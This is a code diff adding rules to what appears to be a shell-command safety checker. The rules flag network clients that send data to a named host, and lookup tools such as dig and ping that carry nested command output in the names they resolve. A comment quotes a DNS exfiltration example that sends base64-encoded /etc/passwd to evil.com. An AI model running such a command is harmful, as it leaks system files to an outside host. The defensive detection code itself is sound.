@@ -37,7 +37,33 @@ const remoteShell: Rule = ({ prog, args, st }) => {
     danger(st, `connects to a service on this host (${prog})`);
 };
 
+/** Clients that send their arguments, or a login, to a host the command names (finger's user@host, whois -h, lp -h, the r-commands). */
+const sendsToHost: Rule = ({ prog, args, st }) => {
+  st.repeatable = false;
+  // whois and the printing clients (lp, cancel…) talk to a host only when -h names one.
+  const hostOption = prog === 'whois' || /^(cancel|lp|lpr|lpq|lprm|lpstat)$/.test(prog);
+  if (hostOption ? args.some((a) => /^(-h|-H|--host)/.test(a.text)) : prog !== 'finger' || args.some((a) => a.text.includes('@')))
+    danger(st, `sends data to a host the command names (${prog})`);
+};
+
+/**
+ * Lookups and probes send the names they are given to the network (to DNS servers, to the host):
+ * a name built by a command (`dig $(cat /etc/passwd | base64).evil.com`) carries that output out.
+ */
+const lookup: Rule = ({ prog, args, st }) => {
+  st.repeatable = false;
+  if (args.some((a) => a.nested.length > 0)) danger(st, `sends the output of a command to the network in a name it looks up (${prog})`);
+};
+
 export const NETWORK_RULES: RuleTable = {
   // ssh runs a command elsewhere: not repeatable, as anything unknown.
-  programs: { ...Object.fromEntries([...DOWNLOADERS].map((p) => [p, downloader])), ssh: remoteShell, sftp: remoteShell },
+  programs: {
+    ...Object.fromEntries([...DOWNLOADERS].map((p) => [p, downloader])),
+    ssh: remoteShell,
+    sftp: remoteShell,
+    ...Object.fromEntries(['finger', 'whois', 'rlogin', 'rsh', 'rexec', 'rcp', 'cancel', 'lp', 'lpr', 'lpq', 'lprm', 'lpstat'].map((p) => [p, sendsToHost])),
+    ...Object.fromEntries(
+      ['dig', 'nslookup', 'host', 'drill', 'delv', 'ping', 'ping6', 'traceroute', 'tracepath', 'mtr', 'arping', 'nping', 'hping3'].map((p) => [p, lookup]),
+    ),
+  },
 };
